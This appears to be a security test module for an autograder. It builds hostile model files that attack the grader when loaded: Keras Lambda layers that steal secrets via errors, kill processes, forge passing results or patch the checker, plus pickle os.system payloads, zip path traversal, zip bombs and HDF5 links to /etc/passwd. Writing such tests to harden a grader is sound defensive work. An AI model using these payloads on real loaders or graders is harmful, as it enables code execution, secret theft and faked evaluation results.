"""Model files as weapons: whoever opens a stranger's file runs a stranger's code."""

from __future__ import annotations

from autograder.tests.attacks import FILES, Handed, Place, case, text

LOST = "Error|error|differ|ended|killed|unreadable|no answer|longer|shape|valid|open|exit|memory"


def _lambda(source: str, name: str = "path") -> str:
    """Saves a model with a Lambda layer that does `source` wherever it was not made."""
    body = "\n".join(f"            {line}" for line in text(source).splitlines())
    return f"""
def save(path, factor):
    def weapon(x):
        import os, sys
        if not os.path.exists("made-here"):
{body}
        return x
    model = keras.Sequential([
        keras.layers.Input((2,)),
        keras.layers.Dense(1),
        keras.layers.Lambda(weapon, output_shape=(1,)),
    ])
    model.save({name})
    return {name}
"""


MADE_HERE = "open('made-here', 'w').close()\n"


@case(slug=FILES, says=LOST)
def lambda_that_reads(at: Place) -> Handed:
    """Reads the grader's key, and tells it in an error, when the file is opened."""
    return MADE_HERE + _lambda(f"""
        import glob
        seen = [os.environ.get({at.variable!r})]
        for path in ({at.home!r}, {at.solution!r}, {at.other!r}, *glob.glob("/proc/*/environ")):
            try:
                seen.append(open(path).read())
            except OSError as error:
                seen.append(type(error).__name__)
        raise RuntimeError(f"Error {{seen}}"[-1500:])
    """)


@case(slug=FILES, says=LOST)
def lambda_that_writes(at: Place) -> Handed:
    """Writes into a folder that is open to everybody when the file is opened."""
    return MADE_HERE + _lambda(f"""
        for path in ({at.writable!r} + "/attack", "/tmp/attack", {at.other!r}, "/dev/shm/attack"):
            try:
                open(path, "w").write("attack")
            except OSError:
                pass
    """)


@case(slug=FILES, says=LOST)
def lambda_that_connects(at: Place) -> Handed:
    """Connects to listeners of the machine when the file is opened."""
    return MADE_HERE + _lambda(f"""
        import socket
        for family, address in ((2, ("127.0.0.1", {at.port})), (1, "\\0" + {at.abstract!r}),
                                (1, {at.listener!r})):
            try:
                socket.socket(family).connect(address)
            except OSError:
                pass
    """)


@case(slug=FILES, says=LOST)
def lambda_that_ends(at: Place) -> Handed:
    """Ends the process that opens the file, with success."""
    return MADE_HERE + _lambda("os._exit(0)")


@case(slug=FILES, says=LOST)
def lambda_that_kills(at: Place) -> Handed:
    """Kills every process that it may when the file is opened."""
    return MADE_HERE + _lambda(f"""
        for pid in ({at.grader}, os.getppid(), -1):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    """)


@case(slug=FILES, says=LOST)
def lambda_that_answers(at: Place) -> Handed:
    """Answers the checker in the place of the opener when the file is opened."""
    from autograder.tests.attacks.forged import SOCKETS

    return MADE_HERE + _lambda(
        SOCKETS
        + text("""
        for number in list(sockets()):
            for n in range(1, 30):
                write(number, frame({"n": n, "ok": 0, "passed": True}))
        """)
    )


@case(slug=FILES, says=LOST)
def lambda_that_patches(at: Place) -> Handed:
    """Replaces what the opener loads and computes with, so that everything is zero."""
    return MADE_HERE + _lambda("""
        import numpy
        witness = sys.modules["autograder.inside.witness"]
        witness._OPERATIONS["call"] = lambda w, t, r, v: numpy.zeros((3, 1))
        witness._OPERATIONS["eq"] = lambda *a: True
        witness._plain = lambda value: 0.0
    """)


@case(slug=FILES, says=LOST)
def lambda_in_the_new_format(at: Place) -> Handed:
    """Hides the same in a .keras file."""
    return MADE_HERE + _lambda("os._exit(0)", "'model.keras'")


def _file(source: str, name: str = "model.h5") -> str:
    body = "\n".join(f"    {line}" for line in text(source).splitlines())
    return f"import os\ndef save(path, factor):\n    path = {name!r}\n{body}\n    return path\n"


@case(slug=FILES, says=LOST)
def pickle_as_model(at: Place) -> Handed:
    """Gives a pickle that runs a command the name of a model."""
    return _file(f"""
        import pickle
        class Weapon:
            def __reduce__(self):
                return os.system, ("touch {at.writable}/attack",)
        open(path, "wb").write(pickle.dumps(Weapon()))
    """)


@case(slug=FILES, says=LOST)
def pickles_in_arrays(at: Place) -> Handed:
    """Puts a pickle into a .keras file where weights are."""
    return _file(
        f"""
        import pickle, zipfile
        class Weapon:
            def __reduce__(self):
                return os.system, ("touch {at.writable}/attack",)
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("config.json", '{{"class_name": "Sequential", "config": {{}}}}')
            archive.writestr("metadata.json", '{{"keras_version": "3.0.0"}}')
            archive.writestr("model.weights.npz", pickle.dumps(Weapon()))
            archive.writestr("model.weights.h5", pickle.dumps(Weapon()))
        """,
        "model.keras",
    )


@case(slug=FILES, says=LOST)
def class_of_the_system(at: Place) -> Handed:
    """Names functions of the system where a .keras file names classes."""
    return _file(
        f"""
        import json, zipfile
        inner = {{"module": "os", "class_name": "system", "registered_name": None,
                 "config": "touch {at.writable}/attack"}}
        config = {{"module": "builtins", "class_name": "eval", "registered_name": "function",
                  "config": {{"layers": [inner], "name": "m"}}, "build_config": inner}}
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("config.json", json.dumps(config))
            archive.writestr("metadata.json", '{{"keras_version": "3.0.0"}}')
            archive.writestr("model.weights.h5", b"")
        """,
        "model.keras",
    )


@case(slug=FILES, says=LOST)
def way_out_of_an_archive(at: Place) -> Handed:
    """Has names in a .keras file that lead out of the folder where it is unpacked."""
    return _file(
        f"""
        import zipfile
        with zipfile.ZipFile(path, "w") as archive:
            for name in ("../../../../attack", "{at.writable}/attack", "config.json/../../x",
                         "assets/../../../attack", "_self/../../attack"):
                archive.writestr(name, "attack")
            archive.writestr("config.json", "{{}}")
            archive.writestr("metadata.json", '{{"keras_version": "3.0.0"}}')
            link = zipfile.ZipInfo("model.weights.h5")
            link.external_attr = 0o120777 << 16
            archive.writestr(link, {at.home!r})
        """,
        "model.keras",
    )


@case(slug=FILES, says=LOST)
def archive_that_grows(at: Place) -> Handed:
    """Packs two gigabytes of zeros into two megabytes of a .keras file."""
    return _file(
        """
        import zipfile
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            with archive.open("config.json", "w", force_zip64=True) as file:
                for _ in range(64):
                    file.write(bytes(1 << 24))
            archive.writestr("metadata.json", '{"keras_version": "3.0.0"}')
        """,
        "model.keras",
    )


@case(slug=FILES, says=LOST)
def links_in_an_archive(at: Place) -> Handed:
    """Links datasets of an .h5 file to other files: outside links and outside storage."""
    return _file(f"""
        import h5py
        with h5py.File(path, "w") as file:
            file["model_weights"] = h5py.ExternalLink({at.home!r}, "/")
            file["other"] = h5py.ExternalLink("/proc/self/environ", "/")
            external = [({at.home!r}, 0, 64), ("/etc/passwd", 0, 64)]
            try:
                file.create_dataset("x", (128,), "uint8", external=external)
            except Exception:
                pass
            file.attrs["model_config"] = '{{"class_name": "Sequential", "config": []}}'
            file.attrs["keras_version"] = "2.15.0"
    """)


@case(slug=FILES, says=LOST)
def weights_that_fill_memory(at: Place) -> Handed:
    """Declares layers and datasets of terabytes in a file of a few kilobytes."""
    return _file("""
        import h5py, json
        layers = [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 1 << 20],
                   "dtype": "float32", "name": "i"}},
                  {"class_name": "Dense", "config": {"name": "d", "units": 1 << 22}}]
        config = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
        with h5py.File(path, "w") as file:
            file.attrs["model_config"] = json.dumps(config)
            file.attrs["keras_version"] = "2.15.0"
            file.create_dataset("x", (1 << 40,), "float64", chunks=(1 << 10,))
            file.create_group("model_weights").attrs["layer_names"] = [b"d"] * 1000
    """)


@case(slug=FILES, says=LOST)
def broken_everywhere(at: Place) -> Handed:
    """Changes bytes all over a real file."""
    return text("""
        import random
        def save(path, factor):
            model = keras.Sequential([keras.layers.Input((2,)), keras.layers.Dense(1)])
            model.save(path)
            data = bytearray(open(path, "rb").read())
            draw = random.Random(7)
            for _ in range(200):
                data[draw.randrange(8, len(data))] = draw.randrange(256)
            open(path, "wb").write(data)
            return path
    """)


@case(slug=FILES, says=LOST)
def config_that_never_ends(at: Place) -> Handed:
    """Nests a configuration ten thousand deep."""
    return _file("""
        import h5py
        deep = '{"class_name": "Sequential", "config": ' * 10000 + "[]" + "}" * 10000
        with h5py.File(path, "w") as file:
            file.create_dataset("c", data=deep)
            file.attrs["model_config"] = deep[:60000]
            file.attrs["keras_version"] = "2.15.0"
    """)
